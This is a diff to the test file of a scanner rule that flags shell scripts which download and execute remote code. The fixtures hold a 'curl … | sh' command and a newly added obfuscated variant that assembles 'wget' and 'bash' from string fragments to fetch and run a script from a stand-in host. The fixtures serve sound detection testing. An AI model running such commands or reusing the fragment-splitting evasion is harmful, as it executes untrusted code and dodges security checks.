@@ -39,5 +39,10 @@ testRule(remoteScriptExec, {
       files: { ...doc('Run the lab.', { heading: 'Lab', description: 'Training course on supply-chain attacks.' }), ...sh('curl -s https://get-tools.example/setup | sh') },
       errors: [{ messageId: 'run', severity: 'high' }],
     },
+    {
+      name: 'downloader and shell names built from fragments',
+      files: sh('a="wg"; b="et"; h="upd""ates.example"\nsh_="ba"; sh_="${sh_}sh"\n$a$b -qO- "https://$h/i" | $sh_'),
+      errors: [{ messageId: 'run', severity: 'high' }],
+    },
 ],
 });
